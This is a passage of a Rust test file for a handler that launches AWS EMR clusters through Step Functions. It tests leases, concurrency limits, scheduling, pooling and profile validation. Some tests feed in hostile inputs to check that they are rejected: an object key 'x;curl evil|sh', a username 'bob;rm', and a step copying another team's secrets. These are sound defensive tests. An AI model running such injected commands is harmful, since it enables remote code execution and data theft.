//! Handler tests with in-memory fakes for every port.

use std::collections::BTreeMap;
use std::sync::Mutex;
use std::sync::atomic::{AtomicI64, Ordering};

use crate::emr::ClusterState;
use crate::errors::{Failure, Reported};
use crate::ports::{AwsError, Cluster};
use serde_json::{Value, json};

use super::*;
use crate::create::limit::LEASE_TTL;
use crate::fakes::{Leases, Profiles, Scripts, Startups as StartupLogFake};

const TUTORIAL: &str = include_str!("../../../../profiles/tutorial.toml");
const RETRAIN: &str = include_str!("../../../../profiles/retrain.toml");

#[derive(Default)]
struct Executions {
    started: Mutex<BTreeMap<String, Value>>,
    /// Another delivery starts the same execution between our check and our start.
    race: bool,
    /// StartExecution reaches Step Functions (the execution exists) and then
    /// never answers.
    hang: bool,
    /// ListExecutions lags: started executions are not listed yet.
    unlisted: bool,
    /// StartExecution is refused (not retryable) and starts nothing.
    refuse: bool,
}

fn arn(name: &str) -> String {
    format!("arn:aws:states:us-east-1:123456789012:execution:sparkhub-cluster:{name}")
}

impl Workflow for Executions {
    async fn find_execution(&self, name: &str) -> Result<Option<String>, AwsError> {
        Ok(self
            .started
            .lock()
            .unwrap()
            .contains_key(name)
            .then(|| arn(name)))
    }
    async fn start_execution(&self, name: &str, input: &str) -> Result<Started, AwsError> {
        // Let concurrent invocations interleave here, as real calls would.
        tokio::task::yield_now().await;
        if self.refuse {
            return Err(AwsError::new(
                "SFN StartExecution",
                false,
                Some("AccessDeniedException".into()),
                "injected",
            ));
        }
        {
            let mut started = self.started.lock().unwrap();
            if self.race || started.contains_key(name) {
                return Ok(Started::AlreadyExisted(arn(name)));
            }
            started.insert(name.into(), serde_json::from_str(input).unwrap());
        }
        if self.hang {
            std::future::pending::<()>().await;
        }
        Ok(Started::New(arn(name)))
    }
    /// Every started execution still runs (none has a cluster yet).
    async fn running_executions(&self) -> Result<Vec<String>, AwsError> {
        tokio::task::yield_now().await;
        if self.unlisted {
            return Ok(Vec::new());
        }
        Ok(self.started.lock().unwrap().keys().cloned().collect())
    }
}

#[derive(Default)]
struct Clusters {
    clusters: Vec<Cluster>,
    /// The names asked for.
    asked: Mutex<Vec<String>>,
    /// Claims made: (cluster, execution).
    claims: Mutex<Vec<(String, String)>>,
}

impl ClusterDirectory for Clusters {
    async fn active_clusters(&self, name: &str) -> Result<Vec<Cluster>, AwsError> {
        self.asked.lock().unwrap().push(name.into());
        tokio::task::yield_now().await;
        Ok(self
            .clusters
            .iter()
            .filter(|c| c.name == name)
            .cloned()
            .collect())
    }
    async fn claim(
        &self,
        cluster_id: &str,
        execution: &str,
        _at: jiff::Timestamp,
    ) -> Result<(), AwsError> {
        self.claims
            .lock()
            .unwrap()
            .push((cluster_id.into(), execution.into()));
        Ok(())
    }
}

fn cluster(id: &str, name: &str, tags: &[(&str, &str)]) -> Cluster {
    Cluster {
        id: id.into(),
        name: name.into(),
        state: ClusterState::Waiting,
        tags: tags
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        termination_protected: false,
        applications: vec![],
        master_dns: None,
        key_name: None,
        created_at: None,
        ready_at: None,
    }
}

type Handler = CreateCluster<
    Profiles,
    Scripts,
    Executions,
    Clusters,
    Leases,
    StartupLogFake,
    crate::fakes::Budgets,
>;

fn handler_with(files: &[(&str, &str)]) -> Handler {
    CreateCluster {
        config: Config {
            bucket: "sparkhub-test".into(),
            state_machine_arn:
                "arn:aws:states:us-east-1:123456789012:stateMachine:sparkhub-cluster".into(),
            topic_arn: None,
            poll_seconds: 30,
            master_security_group: None,
            service_role: "sparkhub-emr-service".into(),
            instance_role_prefix: "sparkhub-node".into(),
            max_concurrency: crate::settings::DEFAULT_MAX_CONCURRENCY,
        },
        profiles: Profiles::with(files),
        scripts: Scripts::default(),
        workflow: Executions::default(),
        clusters: Clusters::default(),
        leases: Leases::default(),
        startups: StartupLogFake::default(),
        budgets: crate::fakes::Budgets::default(),
        pool_wait: crate::create::pool::PoolWait {
            attempts: 3,
            pause: std::time::Duration::from_millis(1),
        },
        lease_wait: LeaseWait {
            attempts: 200,
            pause: std::time::Duration::from_millis(1),
        },
        now: || "2026-11-25T07:00:00Z".parse().unwrap(),
        sleep: |d| Box::pin(tokio::time::sleep(d)),
    }
}

fn handler() -> Handler {
    handler_with(&[("tutorial", TUTORIAL), ("retrain", RETRAIN)])
}

fn event(name: &str) -> Value {
    let path = crate::testing::workspace_root().join("events").join(name);
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn started_inputs(h: &Handler) -> BTreeMap<String, Value> {
    h.workflow.started.lock().unwrap().clone()
}

#[tokio::test]
async fn manual_invoke_starts_a_run_with_the_rendered_profile() {
    let h = handler();
    let outcome = h.handle(event("create-cluster-manual.json")).await.unwrap();
    let name = name_of("tutorial", "manual-20261125T070000Z");
    assert!(
        name.starts_with("tutorial_manual-20261125T070000Z_"),
        "{name}"
    );
    assert_eq!(
        outcome,
        Outcome::Started {
            profile: "tutorial".into(),
            execution_name: name.clone(),
            execution_arn: arn(&name),
            creates_cluster_at: None,
        }
    );
    let inputs = started_inputs(&h);
    let input = &inputs[&name];
    assert_eq!(input["request"]["Name"], "sparkhub-tutorial");
    assert_eq!(
        input["request"]["LogUri"], "s3://sparkhub-test/logs/tutorial/",
        "each profile logs under its own prefix"
    );
    assert_eq!(input["terminate_when_done"], false);
    assert!(input.get("topic_arn").is_none());

    // The bootstrap action points at an uploaded script; the users script is uploaded too.
    let uploaded = h.scripts.0.lock().unwrap().clone();
    assert_eq!(uploaded.len(), 3, "packages, notebook reporter, users");
    let path = input["request"]["BootstrapActions"][0]["ScriptBootstrapAction"]["Path"]
        .as_str()
        .unwrap();
    let key = path.strip_prefix("s3://sparkhub-test/").unwrap();
    assert!(uploaded[key].contains("pip install"), "{key}");
}

#[tokio::test]
async fn the_same_scheduled_event_twice_starts_one_run() {
    let h = handler();
    let first = h
        .handle(event("create-cluster-scheduled-event.json"))
        .await
        .unwrap();
    let second = h
        .handle(event("create-cluster-scheduled-event.json"))
        .await
        .unwrap();
    let name = name_of("tutorial", "53dc4d37-cffa-4f76-80c9-8b7d4a4d2eaa");
    assert!(
        matches!(first, Outcome::Started { ref execution_name, .. } if *execution_name == name),
        "{first:?}"
    );
    assert_eq!(
        second,
        Outcome::AlreadyStarted {
            profile: "tutorial".into(),
            execution_name: name.clone(),
            execution_arn: arn(&name)
        }
    );
    assert_eq!(started_inputs(&h).len(), 1);
}

#[tokio::test]
async fn a_concurrent_duplicate_is_already_started_too() {
    let mut h = handler();
    h.workflow.race = true;
    let outcome = h
        .handle(event("create-cluster-scheduler-target.json"))
        .await
        .unwrap();
    assert!(
        matches!(outcome, Outcome::AlreadyStarted { ref execution_name, .. } if *execution_name == name_of("tutorial", "schedule-2026-11-25T07:00:00Z")),
        "{outcome:?}"
    );
}

#[tokio::test]
async fn an_s3_event_runs_the_matching_pipeline_on_the_object() {
    let h = handler();
    let outcome = h
        .handle(event("create-cluster-s3-object-created.json"))
        .await
        .unwrap();
    let Outcome::Started {
        profile,
        execution_name,
        ..
    } = outcome
    else {
        panic!("{outcome:?}")
    };
    assert_eq!(profile, "retrain");
    let input = &started_inputs(&h)[&execution_name];
    assert_eq!(input["terminate_when_done"], true);
    let args = input["steps"][0]["HadoopJarStep"]["Args"]
        .as_array()
        .unwrap();
    assert_eq!(
        args.last().unwrap(),
        "s3://training-data-example/incoming/2026-11-25/batch-0001.csv"
    );
    assert_eq!(input["steps"][1]["Name"], "train");
}

#[tokio::test]
async fn an_object_no_trigger_matches_is_an_error_and_starts_nothing() {
    let h = handler();
    let mut e = event("create-cluster-s3-object-created.json");
    e["detail"]["object"]["key"] = json!("archive/old.csv");
    let err = h.handle(e).await.unwrap_err();
    assert!(
        matches!(err, CreateError::NoMatchingTrigger { .. }),
        "{err}"
    );
    assert!(
        err.to_string()
            .contains("s3://training-data-example/archive/old.csv")
    );
    assert!(started_inputs(&h).is_empty());
}

#[tokio::test]
async fn two_matching_profiles_are_an_error_naming_both() {
    let copy = RETRAIN.replace("name = \"retrain\"", "name = \"retrain-2\"");
    let h = handler_with(&[("retrain", RETRAIN), ("retrain-2", &copy)]);
    let err = h
        .handle(event("create-cluster-s3-object-created.json"))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("retrain, retrain-2"), "{err}");
    assert!(started_inputs(&h).is_empty());
}

#[tokio::test]
async fn a_broken_profile_does_not_block_other_pipelines() {
    let h = handler_with(&[("broken", "name = "), ("retrain", RETRAIN)]);
    let outcome = h
        .handle(event("create-cluster-s3-object-created.json"))
        .await
        .unwrap();
    assert!(matches!(outcome, Outcome::Started { ref profile, .. } if profile == "retrain"));
}

#[tokio::test]
async fn unknown_malformed_and_invalid_profiles_are_clear_errors() {
    let h = handler();
    let err = h.handle(json!({"profile": "nope"})).await.unwrap_err();
    assert_eq!(
        err.to_string(),
        "profile \"nope\" not found at s3://sparkhub-test/profiles/nope.toml; upload it there (see profiles/ for examples)"
    );
    assert_eq!(err.error_type(), "sparkhub.ProfileNotFound");

    let h = handler_with(&[("tutorial", "name = \"tutorial\"\ncolour = \"blue\"\n")]);
    let err = h.handle(json!({"profile": "tutorial"})).await.unwrap_err();
    let text = err.to_string();
    assert!(
        text.contains("s3://sparkhub-test/profiles/tutorial.toml") && text.contains("colour"),
        "{text}"
    );

    let invalid = TUTORIAL
        .replace(
            "users = [\"philipp\", \"admin\"]",
            "users = [\"philipp\", \"bob;rm\"]",
        )
        .replace("timeout_minutes = 60", "timeout_minutes = 1");
    let h = handler_with(&[("tutorial", &invalid)]);
    let err = h.handle(json!({"profile": "tutorial"})).await.unwrap_err();
    let text = err.to_string();
    assert!(
        text.contains("users[1]: \"bob;rm\"") && text.contains("idle.timeout_minutes"),
        "every problem is named: {text}"
    );
    assert_eq!(err.error_type(), "sparkhub.InvalidProfile");

    let renamed = TUTORIAL.replace("name = \"tutorial\"", "name = \"other\"");
    let h = handler_with(&[("tutorial", &renamed)]);
    assert!(
        h.handle(json!({"profile": "tutorial"}))
            .await
            .unwrap_err()
            .to_string()
            .contains("must match its file name")
    );
    assert!(started_inputs(&h).is_empty());
}

#[tokio::test]
async fn run_steps_are_validated_like_the_profile() {
    let h = handler();
    let err = h
        .handle(json!({"profile": "retrain", "steps": [{"name": " ", "args": ["x"]}]}))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("steps[0].name"), "{err}");
    let err = h
        .handle(json!({"profile": "retrain", "steps": [{"name": "leak", "args": ["aws", "s3", "cp", "s3://other-team/secrets.csv", "."]}]}))
        .await
        .unwrap_err();
    assert!(
        err.to_string().contains("steps[0].args[3]") && err.to_string().contains("[access]"),
        "a run's steps may read only the profile's [access] locations: {err}"
    );
    assert!(started_inputs(&h).is_empty());
    let outcome = h
        .handle(event("create-cluster-pipeline-run.json"))
        .await
        .unwrap();
    let Outcome::Started { execution_name, .. } = outcome else {
        panic!()
    };
    assert_eq!(execution_name, name_of("retrain", "backfill-2026-11"));
    assert_eq!(
        started_inputs(&h)[&execution_name]["steps"][0]["Name"],
        "score"
    );
}

fn name_of(profile: &str, run_id: &str) -> String {
    execution_name(&ProfileName::parse(profile).unwrap(), run_id)
}

#[tokio::test]
async fn the_active_cluster_limit_skips_and_says_why() {
    let mut h = handler();
    h.clusters.clusters = vec![
        cluster(
            "j-UNMANAGED",
            "sparkhub-tutorial",
            &[("sparkhub:profile", "tutorial")],
        ),
        cluster(
            "j-OTHER",
            "sparkhub-retrain",
            &[
                ("sparkhub:managed", "true"),
                ("sparkhub:profile", "retrain"),
            ],
        ),
    ];
    assert!(matches!(
        h.handle(json!({"profile": "tutorial", "run_id": "a"}))
            .await
            .unwrap(),
        Outcome::Started { .. }
    ));
    assert_eq!(
        *h.clusters.asked.lock().unwrap(),
        ["sparkhub-tutorial"],
        "only clusters with the profile's cluster name are looked at"
    );
    let input = &started_inputs(&h)[&name_of("tutorial", "a")];
    assert!(
        input["request"]["Tags"]
            .as_array()
            .unwrap()
            .contains(&json!({"Key": "sparkhub:execution", "Value": name_of("tutorial", "a")})),
        "the cluster names its run"
    );

    // Run a's cluster is up: the run counts once, as its cluster.
    h.clusters.clusters.push(cluster(
        "j-MINE",
        "sparkhub-tutorial",
        &[
            ("sparkhub:managed", "true"),
            ("sparkhub:profile", "tutorial"),
            ("sparkhub:execution", &name_of("tutorial", "a")),
        ],
    ));
    let outcome = h
        .handle(json!({"profile": "tutorial", "run_id": "b"}))
        .await
        .unwrap();
    let Outcome::Skipped { reason, .. } = outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(
        reason,
        "1 active cluster(s) of profile tutorial already, the limit is 1 (max_active_clusters): j-MINE (WAITING)"
    );
    assert_eq!(started_inputs(&h).len(), 1);
}

#[tokio::test]
async fn a_run_whose_cluster_is_not_listed_yet_counts() {
    let h = handler();
    h.handle(json!({"profile": "tutorial", "run_id": "a"}))
        .await
        .unwrap();
    // No cluster is listed yet (ListClusters lags behind StartExecution).
    let outcome = h
        .handle(json!({"profile": "tutorial", "run_id": "b"}))
        .await
        .unwrap();
    let Outcome::Skipped { reason, .. } = outcome else {
        panic!("{outcome:?}")
    };
    assert!(
        reason.contains(&format!("execution {}", name_of("tutorial", "a"))),
        "{reason}"
    );
}

#[tokio::test]
async fn pipelines_get_a_default_limit_of_five_and_no_object_is_dropped_beyond_it() {
    let h = handler();
    let mut outcomes = Vec::new();
    for i in 0..7 {
        let mut e = event("create-cluster-s3-object-created.json");
        e["id"] = json!(format!("event-{i}"));
        outcomes.push(h.handle(e).await);
    }
    let started = outcomes
        .iter()
        .filter(|o| matches!(o, Ok(Outcome::Started { .. })))
        .count();
    assert_eq!(started, DEFAULT_PIPELINE_LIMIT as usize, "{outcomes:?}");
    // Beyond the limit an object is an error Lambda retries and then keeps
    // in the failed-invocations queue, not a quiet "skipped".
    let err = outcomes[6].as_ref().unwrap_err();
    assert_eq!(err.error_type(), "sparkhub.LimitReached");
    assert!(err.is_retryable());
    let text = err.to_string();
    assert!(
        text.contains("the limit is 5")
            && text.contains("s3://")
            && text.contains("failed-invocations queue"),
        "{text}"
    );
    // A manual start beyond the limit has nothing to keep: it is skipped.
    let manual = h
        .handle(json!({"profile": "retrain", "run_id": "by-hand"}))
        .await
        .unwrap();
    assert!(matches!(manual, Outcome::Skipped { .. }), "{manual:?}");
}

#[tokio::test]
async fn fifty_concurrent_triggers_start_one_run() {
    let h = std::sync::Arc::new(handler());
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..50 {
        let h = h.clone();
        tasks.spawn(async move {
            h.handle(json!({"profile": "tutorial", "run_id": format!("burst-{i}")}))
                .await
        });
    }
    let mut started = 0;
    while let Some(outcome) = tasks.join_next().await {
        match outcome.unwrap().unwrap() {
            Outcome::Started { .. } => started += 1,
            Outcome::Skipped { .. } => {}
            other => panic!("{other:?}"),
        }
    }
    assert_eq!(
        started, 1,
        "max_active_clusters = 1 holds under concurrency"
    );
    assert_eq!(started_inputs(&h).len(), 1);
}

/// An invocation dies inside StartExecution (its function timed out) after
/// Step Functions received the call; no listing shows the run yet. Whoever
/// takes the expired lease over counts that start: one run, not two.
#[tokio::test]
async fn a_start_whose_invocation_died_in_start_execution_still_counts() {
    static CLOCK: AtomicI64 = AtomicI64::new(0);
    fn now() -> Timestamp {
        "2026-11-25T07:00:00Z".parse::<Timestamp>().unwrap()
            + jiff::SignedDuration::from_secs(CLOCK.load(Ordering::SeqCst))
    }
    let mut h = handler();
    h.now = now;
    h.workflow.hang = true;
    h.workflow.unlisted = true;
    let cut_off = tokio::time::timeout(
        std::time::Duration::from_millis(300),
        h.handle(json!({"profile": "tutorial", "run_id": "a"})),
    )
    .await;
    assert!(cut_off.is_err(), "a never returns: {cut_off:?}");
    assert_eq!(started_inputs(&h).len(), 1, "Step Functions got a's start");

    // Past a's lease, b takes it over.
    CLOCK.store(LEASE_TTL.as_secs() + 1, Ordering::SeqCst);
    h.workflow.hang = false;
    let outcome = h
        .handle(json!({"profile": "tutorial", "run_id": "b"}))
        .await
        .unwrap();
    let Outcome::Skipped { reason, .. } = outcome else {
        panic!("a second run started beside a's: {outcome:?}")
    };
    assert!(
        reason.contains(&format!("execution {}", name_of("tutorial", "a"))),
        "{reason}"
    );
    assert_eq!(started_inputs(&h).len(), 1, "exactly one run");
}

/// A StartExecution that does not answer is not waited for beyond the
/// lease: the invocation gives up with a retryable error while its lease
/// still holds, the start stays counted, and the retry finds the execution.
#[tokio::test]
async fn a_start_slower_than_the_lease_is_given_up_before_the_lease_ends() {
    static CLOCK: AtomicI64 = AtomicI64::new(0);
    fn now() -> Timestamp {
        "2026-11-25T07:00:00Z".parse::<Timestamp>().unwrap()
            + jiff::SignedDuration::from_secs(CLOCK.load(Ordering::SeqCst))
    }
    let mut h = handler();
    h.now = now;
    // Waiting moves the clock (the test does not wait), and lets the other
    // side of a race run once.
    h.sleep = |d| {
        CLOCK.fetch_add(d.as_secs() as i64, Ordering::SeqCst);
        Box::pin(tokio::task::yield_now())
    };
    h.workflow.hang = true;
    h.workflow.unlisted = true;
    let a = json!({"profile": "tutorial", "run_id": "a"});
    let err = tokio::time::timeout(std::time::Duration::from_secs(5), h.handle(a.clone()))
        .await
        .expect("a gives up by itself")
        .unwrap_err();
    assert!(
        matches!(err, CreateError::StartTimedOut { .. }) && err.is_retryable(),
        "{err}"
    );
    assert_eq!(err.error_type(), "sparkhub.Retryable");
    assert_eq!(started_inputs(&h).len(), 1, "Step Functions got a's start");
    assert!(
        CLOCK.load(Ordering::SeqCst) < LEASE_TTL.as_secs(),
        "gave up after {} s, beyond the lease",
        CLOCK.load(Ordering::SeqCst)
    );

    // Its start may have happened: another run waits for it.
    h.workflow.hang = false;
    let outcome = h
        .handle(json!({"profile": "tutorial", "run_id": "b"}))
        .await
        .unwrap();
    assert!(matches!(outcome, Outcome::Skipped { .. }), "{outcome:?}");
    // The retry of a's event finds the execution Step Functions did start.
    assert!(matches!(
        h.handle(a).await.unwrap(),
        Outcome::AlreadyStarted { .. }
    ));
    assert_eq!(started_inputs(&h).len(), 1, "exactly one run");
}

/// A start Step Functions refused outright will never run: it is not
/// remembered, and the profile's next run starts (a remembered one would
/// hold the profile at its limit for 15 minutes).
#[tokio::test]
async fn a_refused_start_does_not_count() {
    let mut h = handler();
    h.workflow.refuse = true;
    let err = h
        .handle(json!({"profile": "tutorial", "run_id": "a"}))
        .await
        .unwrap_err();
    assert!(!err.is_retryable(), "{err}");
    h.workflow.refuse = false;
    let outcome = h
        .handle(json!({"profile": "tutorial", "run_id": "b"}))
        .await
        .unwrap();
    assert!(matches!(outcome, Outcome::Started { .. }), "{outcome:?}");
}

#[tokio::test]
async fn a_lease_held_elsewhere_is_a_retryable_error_after_waiting() {
    let mut h = handler();
    h.lease_wait.attempts = 3;
    h.leases.0.lock().unwrap().insert(
        "locks/tutorial.json".into(),
        (
            1,
            json!({"holder": "tutorial_x_000000000000", "expires_at": "2026-11-25T07:00:30Z"})
                .to_string(),
        ),
    );
    let err = h
        .handle(json!({"profile": "tutorial", "run_id": "a"}))
        .await
        .unwrap_err();
    assert!(matches!(err, CreateError::Busy { .. }), "{err}");
    assert_eq!(err.error_type(), "sparkhub.Retryable");
    assert!(err.to_string().contains("tutorial_x_000000000000"), "{err}");
    assert!(started_inputs(&h).is_empty());

    // Once it has expired, the lease is taken over.
    h.now = || "2026-11-25T07:01:00Z".parse().unwrap();
    assert!(matches!(
        h.handle(json!({"profile": "tutorial", "run_id": "a"}))
            .await
            .unwrap(),
        Outcome::Started { .. }
    ));
}

#[tokio::test]
async fn an_unsafe_object_key_starts_nothing() {
    let h = handler();
    let mut e = event("create-cluster-s3-object-created.json");
    e["detail"]["object"]["key"] = json!("incoming/x;curl evil|sh");
    let d = Reported::from(h.handle(e).await.unwrap_err());
    assert_eq!(d.error_type, "sparkhub.UnsafeObjectKey");
    assert!(
        d.error_message.contains("rename the object"),
        "{}",
        d.error_message
    );
    assert!(started_inputs(&h).is_empty());
    assert!(h.scripts.0.lock().unwrap().is_empty());
}

#[tokio::test]
async fn unchanged_scripts_are_not_uploaded_again() {
    let h = handler();
    h.handle(json!({"profile": "retrain", "run_id": "one"}))
        .await
        .unwrap();
    let uploaded = h.scripts.0.lock().unwrap().len();
    assert!(uploaded > 0);
    h.handle(json!({"profile": "retrain", "run_id": "two"}))
        .await
        .unwrap();
    assert_eq!(started_inputs(&h).len(), 2);
    assert_eq!(
        h.scripts.0.lock().unwrap().len(),
        uploaded,
        "the second run reuses the first run's scripts"
    );
}

#[tokio::test]
async fn the_topic_reaches_the_workflow_input() {
    let mut h = handler();
    h.config.topic_arn = Some("arn:aws:sns:us-east-1:123456789012:sparkhub".into());
    let Outcome::Started { execution_name, .. } =
        h.handle(json!({"profile": "tutorial"})).await.unwrap()
    else {
        panic!()
    };
    assert_eq!(
        started_inputs(&h)[&execution_name]["topic_arn"],
        "arn:aws:sns:us-east-1:123456789012:sparkhub"
    );
}

#[tokio::test]
async fn aws_failures_map_to_retryable_or_permanent_diagnostics() {
    let mut h = handler();
    h.profiles.fail_every_read = Some(true);
    let d = Reported::from(h.handle(json!({"profile": "tutorial"})).await.unwrap_err());
    assert_eq!(d.error_type, "sparkhub.Retryable");
    assert!(
        d.error_message.contains("S3 GetObject") && d.error_message.contains("injected"),
        "{}",
        d.error_message
    );

    h.profiles.fail_every_read = Some(false);
    let d = Reported::from(h.handle(json!({"profile": "tutorial"})).await.unwrap_err());
    assert_eq!(d.error_type, "sparkhub.AwsError");

    let d = Reported::from(h.handle(json!({"hello": "world"})).await.unwrap_err());
    assert_eq!(d.error_type, "sparkhub.BadEvent");
    assert!(started_inputs(&h).is_empty());
}

#[test]
fn configuration_names_what_is_missing() {
    let env = |pairs: &'static [(&str, &str)]| {
        move |k: &str| {
            pairs
                .iter()
                .find(|(n, _)| *n == k)
                .map(|(_, v)| v.to_string())
        }
    };
    let err = Config::from_lookup(env(&[("SPARKHUB_BUCKET", "b")])).unwrap_err();
    assert_eq!(
        err.to_string(),
        "configuration: SPARKHUB_STATE_MACHINE_ARN is not set"
    );
    let config = Config::from_lookup(env(&[
        ("SPARKHUB_BUCKET", "b"),
        ("SPARKHUB_STATE_MACHINE_ARN", "arn"),
        ("SPARKHUB_TOPIC_ARN", ""),
    ]))
    .unwrap();
    assert_eq!(config.topic_arn, None, "an empty topic means none");
    assert_eq!(config.poll_seconds, 30);
    let err = Config::from_lookup(env(&[
        ("SPARKHUB_BUCKET", "b"),
        ("SPARKHUB_STATE_MACHINE_ARN", "arn"),
        ("SPARKHUB_POLL_SECONDS", "0"),
    ]))
    .unwrap_err();
    assert!(
        err.to_string().contains("SPARKHUB_POLL_SECONDS=\"0\""),
        "{err}"
    );
}

/// Threat model, notebook users: a profile whose log_uri lies in the sparkhub
/// bucket outside its own logs/<profile>/ (or whose [access] or triggers
/// name that bucket) would give its nodes other profiles' scripts, leases,
/// history, logs and notebooks; no run of it starts.
#[tokio::test]
async fn a_log_uri_at_the_sparkhub_bucket_root_starts_nothing() {
    for (change, field) in [
        (
            (
                "name = \"tutorial\"",
                "name = \"tutorial\"\nlog_uri = \"s3://sparkhub-test/\"",
            ),
            "log_uri = s3://sparkhub-test/",
        ),
        (
            (
                "name = \"tutorial\"",
                "name = \"tutorial\"\nlog_uri = \"s3://sparkhub-test/logs/retrain/\"",
            ),
            "log_uri = s3://sparkhub-test/logs/retrain/",
        ),
        (
            (
                "name = \"tutorial\"",
                "name = \"tutorial\"\nnotebook_bucket = \"sparkhub-test\"",
            ),
            "notebook_bucket = s3://sparkhub-test/",
        ),
        (
            ("", "\n[access]\nread = [\"s3://sparkhub-test/jupyter/\"]\n"),
            "access.read[0] = s3://sparkhub-test/jupyter/",
        ),
    ] {
        let text = if change.0.is_empty() {
            format!("{TUTORIAL}{}", change.1)
        } else {
            TUTORIAL.replacen(change.0, change.1, 1)
        };
        assert_ne!(text, TUTORIAL, "{field}: the change applies");
        let h = handler_with(&[("tutorial", &text)]);
        let e = h
            .handle(event("create-cluster-manual.json"))
            .await
            .unwrap_err();
        assert!(
            matches!(e, CreateError::LocationInSparkhubBucket { .. }),
            "{field}: {e}"
        );
        assert!(e.to_string().contains(field), "{e}");
        assert!(
            e.to_string().contains("logs/tutorial/"),
            "says what to do: {e}"
        );
        assert_eq!(e.error_type(), "sparkhub.InvalidProfile");
        assert!(started_inputs(&h).is_empty(), "{field}: no run");
        assert!(
            h.scripts.0.lock().unwrap().is_empty(),
            "{field}: nothing uploaded"
        );
    }
    // Its own prefix is fine.
    let own = TUTORIAL.replacen(
        "name = \"tutorial\"",
        "name = \"tutorial\"\nlog_uri = \"s3://sparkhub-test/logs/tutorial/emr/\"",
        1,
    );
    let h = handler_with(&[("tutorial", &own)]);
    h.handle(event("create-cluster-manual.json")).await.unwrap();
}

fn ready_by_event(ready_by: &str) -> Value {
    json!({"profile": "tutorial", "run_id": "team-monday", "ready_by": ready_by})
}

#[tokio::test]
async fn a_ready_by_run_without_five_startups_waits_until_the_default_lead() {
    let h = handler();
    // The clock says 07:00; ready by 08:00; 20 minutes default + 2 margin.
    let outcome = h
        .handle(ready_by_event("2026-11-25T08:00:00Z"))
        .await
        .unwrap();
    let Outcome::Started {
        creates_cluster_at,
        execution_name,
        ..
    } = outcome
    else {
        panic!("{outcome:?}")
    };
    assert_eq!(
        creates_cluster_at,
        Some("2026-11-25T07:38:00Z".parse().unwrap())
    );
    let input = &started_inputs(&h)[&execution_name];
    assert_eq!(input["start_at"], "2026-11-25T07:38:00Z");
    let tags = input["request"]["Tags"].as_array().unwrap();
    assert!(
        tags.contains(&json!({"Key": "sparkhub:ready-by", "Value": "2026-11-25T08:00:00Z"})),
        "{tags:?}"
    );
}

#[tokio::test]
async fn a_ready_by_run_plans_with_the_profiles_startup_p95() {
    let h = handler();
    let ready: jiff::Timestamp = "2026-11-20T08:00:00Z".parse().unwrap();
    h.startups.seed(
        "tutorial",
        [6, 7, 7, 8, 8, 8, 9, 11]
            .iter()
            .enumerate()
            .map(|(i, m)| {
                let ready_at = ready + jiff::SignedDuration::from_hours(24 * i as i64);
                crate::startup::StartupSample {
                    cluster_id: format!("j-{i}"),
                    created_at: ready_at - jiff::SignedDuration::from_mins(*m),
                    ready_at,
                }
            })
            .collect(),
    );
    let outcome = h
        .handle(ready_by_event("2026-11-25T08:00:00Z"))
        .await
        .unwrap();
    let Outcome::Started {
        creates_cluster_at, ..
    } = outcome
    else {
        panic!("{outcome:?}")
    };
    // p95 of eight startups is the slowest, 11 minutes; + 2.
    assert_eq!(
        creates_cluster_at,
        Some("2026-11-25T07:47:00Z".parse().unwrap())
    );
}

#[tokio::test]
async fn a_ready_by_schedule_wants_its_cluster_an_hour_after_it_fired() {
    let ready_by_profile = TUTORIAL.replace(
        "cron = \"cron(0 8 ? * MON-FRI *)\"",
        "ready_by = \"cron(0 8 ? * MON-FRI *)\"",
    );
    let h = handler_with(&[("tutorial", &ready_by_profile)]);
    let event = json!({"profile": "tutorial", "run_id": "schedule-2026-11-25T07:00:00Z", "scheduled_time": "2026-11-25T07:00:00Z"});
    let Outcome::Started {
        creates_cluster_at, ..
    } = h.handle(event).await.unwrap()
    else {
        panic!()
    };
    assert_eq!(
        creates_cluster_at,
        Some("2026-11-25T07:38:00Z".parse().unwrap())
    );
    // A plain cron schedule's run starts when it fires.
    let h = handler();
    let event = json!({"profile": "tutorial", "run_id": "schedule-2026-11-25T07:00:00Z", "scheduled_time": "2026-11-25T07:00:00Z"});
    let Outcome::Started {
        creates_cluster_at,
        execution_name,
        ..
    } = h.handle(event).await.unwrap()
    else {
        panic!()
    };
    assert_eq!(creates_cluster_at, None);
    assert!(
        started_inputs(&h)[&execution_name]
            .get("start_at")
            .is_none()
    );
}

#[tokio::test]
async fn a_ready_by_that_is_not_an_instant_is_refused_saying_the_format() {
    let h = handler();
    let err = h.handle(ready_by_event("tomorrow 8am")).await.unwrap_err();
    assert!(err.to_string().contains("RFC 3339"), "{err}");
    let err = h
        .handle(ready_by_event("2026-12-25T08:00:00Z"))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("more than 7 days ahead"), "{err}");
    assert!(started_inputs(&h).is_empty());
}

fn pooled(max_clusters: u32) -> String {
    format!("{RETRAIN}\n[pool]\nmax_clusters = {max_clusters}\nidle_minutes = 15\n")
}

fn tag<'a>(input: &'a Value, key: &str) -> Option<&'a str> {
    input["request"]["Tags"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["Key"] == key)
        .and_then(|t| t["Value"].as_str())
}

#[tokio::test]
async fn a_pooled_run_claims_a_waiting_cluster_of_its_configuration() {
    let text = pooled(2);
    // No cluster yet: the run creates one, tagged with its configuration and
    // held by itself, and leaves it up at the end.
    let h = handler_with(&[("retrain", &text)]);
    let Outcome::Started { execution_name, .. } = h
        .handle(event("create-cluster-s3-object-created.json"))
        .await
        .unwrap()
    else {
        panic!()
    };
    let first = &started_inputs(&h)[&execution_name];
    let hash = tag(first, "sparkhub:config-hash").unwrap().to_owned();
    assert_eq!(
        tag(first, "sparkhub:claimed-by"),
        Some(execution_name.as_str())
    );
    assert_eq!(first["pooled"], true);
    assert_eq!(first["terminate_when_done"], false);
    assert!(first.get("claimed").is_none());

    // Its cluster waits: the next object's run claims it.
    let mut h = handler_with(&[("retrain", &text)]);
    h.clusters.clusters = vec![
        cluster(
            "j-WARM",
            "sparkhub-retrain",
            &[
                ("sparkhub:managed", "true"),
                ("sparkhub:profile", "retrain"),
                ("sparkhub:config-hash", &hash),
                ("sparkhub:execution", &execution_name),
                ("sparkhub:claimed-by", &execution_name),
            ],
        ),
        // Another configuration (the scripts changed since): not this run's.
        cluster(
            "j-OLD",
            "sparkhub-retrain",
            &[
                ("sparkhub:managed", "true"),
